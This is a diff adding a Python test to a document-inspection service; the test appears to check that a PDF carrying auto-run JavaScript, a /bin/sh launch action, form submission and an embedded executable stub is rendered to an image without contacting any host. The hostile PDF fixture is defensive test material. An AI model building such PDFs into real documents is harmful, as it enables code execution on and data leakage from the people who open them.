@@ -233,3 +233,31 @@ def test_notebook_tells_when_it_was_not_run_in_order():
     services.inspect(str(file.pk))
     file.refresh_from_db()
     assert "not run from top to bottom" in file.warning
+
+
+ACTIVE = b"""%PDF-1.7
+1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /AcroForm << /Fields [7 0 R] >>
+ /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> /JavaScript << /Names [(x) 5 0 R] >> >> >> endobj
+2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
+3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [6 0 R 7 0 R] /AA << /O 6 0 R >> >> endobj
+5 0 obj << /S /JavaScript /JS (app.launchURL\\("ADDRESS/js"\\); this.submitForm\\("ADDRESS/form"\\);) >> endobj
+6 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /S /Launch /A << /S /Launch /F (/bin/sh) /Next << /S /URI /URI (ADDRESS/uri) >> >> >> endobj
+7 0 obj << /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /T (b) /A << /S /SubmitForm /F (ADDRESS/submit) >> >> endobj
+8 0 obj << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >> endobj
+9 0 obj << /Type /EmbeddedFile /Length 2 >> stream
+MZ
+endstream endobj
+trailer << /Root 1 0 R /Size 10 >>
+%%EOF
+"""
+
+
+def test_u12_a_pdf_with_programs_forms_and_files_in_it_calls_nobody_and_its_pages_are_pictures(trap):
+    address, asked = trap
+    file = take(ACTIVE.replace(b"ADDRESS", address.encode()))
+    services.inspect(str(file.pk))
+    file.refresh_from_db()
+    assert file.pages == 1
+    assert [path.name for path in file.preview_path.iterdir()] == ["1.png"]
+    assert (file.preview_path / "1.png").read_bytes().startswith(b"\x89PNG")
+    assert asked == []
